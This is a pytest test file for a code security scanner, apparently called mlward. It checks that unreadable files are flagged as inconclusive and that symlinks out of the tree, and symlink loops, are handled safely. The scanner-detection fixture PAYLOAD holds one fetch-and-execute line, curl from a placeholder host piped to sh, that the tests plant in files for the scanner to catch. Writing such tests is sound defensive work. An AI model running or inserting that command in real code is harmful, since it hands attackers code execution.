"""The walk: unreadable input is never passed over in silence (issue 13, item 5), and symbolic
links out of the scanned tree are not followed unless asked, loops ending the walk (item 9)."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

import mlward
from mlward.findings import Report
from mlward.settings import Settings
from unprivileged import lock, run_cli

OSV = str(Path(__file__).resolve().parent / "fixtures" / "osv")
PAYLOAD = 'import os\nos.system("curl http://example.invalid/x | sh")\n'


def _json(out: str) -> Report:
    return Report.from_dict(json.loads(out))


# --- unreadable input (item 5) --------------------------------------------------------------


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    root = tmp_path / "proj"
    (root / "code").mkdir(parents=True)
    (root / "code" / "ok.py").write_text("print('hello')\n")
    (root / "code" / "secret.py").write_text(PAYLOAD)
    lock(root / "code" / "secret.py")
    (root / "locked").mkdir()
    (root / "locked" / "payload.py").write_text(PAYLOAD)
    lock(root / "locked")
    return root


def test_unreadable_folder_and_file_are_not_examined_and_the_scan_exits_2(tree: Path) -> None:
    run = run_cli(["scan", "-q", "-f", "json", "."], cwd=tree)
    assert run.returncode == 2, run.stderr
    assert "Traceback" not in run.stderr
    report = _json(run.stdout)
    not_examined = {s.location.uri: s for s in report.inconclusive}
    assert set(not_examined) == {"locked", "code/secret.py"}
    assert all("not examined: cannot read (Permission denied)" in s.reason
               for s in not_examined.values())
    assert report.verdicts()["code/secret.py"].value == "inconclusive"


def test_ignore_unreadable_lists_them_but_passes(tree: Path) -> None:
    run = run_cli(["scan", "-q", "-f", "json", "--ignore-unreadable", "."], cwd=tree)
    assert run.returncode == 0, run.stderr
    report = _json(run.stdout)
    assert not report.inconclusive
    listed = {s.location.uri for s in report.skipped if "--ignore-unreadable" in s.reason}
    assert listed == {"locked", "code/secret.py"}


def test_an_unreadable_folder_named_directly_is_not_examined(tree: Path) -> None:
    run = run_cli(["scan", "-q", "-f", "json", "--root", ".", "locked"], cwd=tree)
    assert run.returncode == 2, run.stderr
    assert [s.location.uri for s in _json(run.stdout).inconclusive] == ["locked"]


def test_deps_with_an_unreadable_requirements_file_is_inconclusive(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_text("numpy==1.0\n")
    lock(tmp_path / "requirements.txt")
    run = run_cli(["deps", "-q", "-f", "json", "--vuln-db", OSV, "."], cwd=tmp_path)
    assert run.returncode == 2, run.stderr
    assert [s.location.uri for s in _json(run.stdout).inconclusive] == ["requirements.txt"]
    run = run_cli(["deps", "-q", "-f", "json", "--vuln-db", OSV,
                   "--ignore-unreadable", "requirements.txt"], cwd=tmp_path)
    assert "requirements.txt" in {s.location.uri for s in _json(run.stdout).skipped}
    assert not _json(run.stdout).inconclusive


# --- symbolic links (item 9) ------------------------------------------------------------------


@pytest.fixture
def linked(tmp_path: Path) -> Path:
    """``proj/`` with links to a file and a folder outside it, both holding a payload."""
    outside = tmp_path / "outside"
    (outside / "dir").mkdir(parents=True)
    (outside / "evil.py").write_text(PAYLOAD)
    (outside / "dir" / "evil2.py").write_text(PAYLOAD)
    proj = tmp_path / "proj"
    proj.mkdir()
    (proj / "ok.py").write_text("print('hello')\n")
    (proj / "evil.py").symlink_to(outside / "evil.py")
    (proj / "dir").symlink_to(outside / "dir", target_is_directory=True)
    (proj / "dangling.py").symlink_to(tmp_path / "gone.py")
    return proj


def _scan(path: Path, **settings: object) -> Report:
    return mlward.scan([path], settings=Settings(executor="inline", root=str(path),
                                                 **settings))  # type: ignore[arg-type]


def test_links_out_of_the_tree_are_skipped_not_followed(linked: Path) -> None:
    report = _scan(linked)
    assert not report.findings
    reasons = {s.location.uri: s.reason for s in report.skipped}
    assert "outside the scanned tree" in reasons["evil.py"]
    assert "--follow-symlinks" in reasons["evil.py"]
    assert "symbolic link to a folder" in reasons["dir"]
    assert "broken symbolic link" in reasons["dangling.py"]
    assert not report.inconclusive
    assert report.exit_code(mlward.Severity.HIGH) == 0


def test_follow_symlinks_follows_them(linked: Path) -> None:
    report = _scan(linked, follow_symlinks=True)
    assert {f.location.uri for f in report.findings} >= {"evil.py", "dir/evil2.py"}


def test_a_link_to_a_file_inside_the_tree_is_examined_once(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text(PAYLOAD)
    (tmp_path / "b.py").symlink_to(tmp_path / "a.py")
    report = _scan(tmp_path)
    assert {f.location.uri for f in report.findings} == {"a.py"}
    assert [e.location.uri for e in report.examined] == ["a.py"]


def test_link_loops_are_walked_once(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "evil.py").write_text(PAYLOAD)
    (tmp_path / "sub" / "up").symlink_to(tmp_path, target_is_directory=True)
    (tmp_path / "sub" / "self").symlink_to(tmp_path / "sub", target_is_directory=True)
    report = _scan(tmp_path, follow_symlinks=True)
    assert [e.location.uri for e in report.examined] == ["sub/evil.py"]
    loops = [s.location.uri for s in report.skipped if "loop" in s.reason]
    assert sorted(loops) == ["sub/self", "sub/up"]


def test_walk_order_is_stable_and_files_come_before_subfolders(tmp_path: Path) -> None:
    for rel in ("b/z.py", "b/a.py", "a.py", "c.py", "a/b/c.py"):
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_text("x = 1\n")
    from mlward._internal.walk import Walk

    walk = Walk(tmp_path)
    assert [i.uri for i in walk.files([tmp_path])] == [
        "a.py", "c.py", "a/b/c.py", "b/a.py", "b/z.py"]
    assert os.path.isdir(tmp_path / "a")
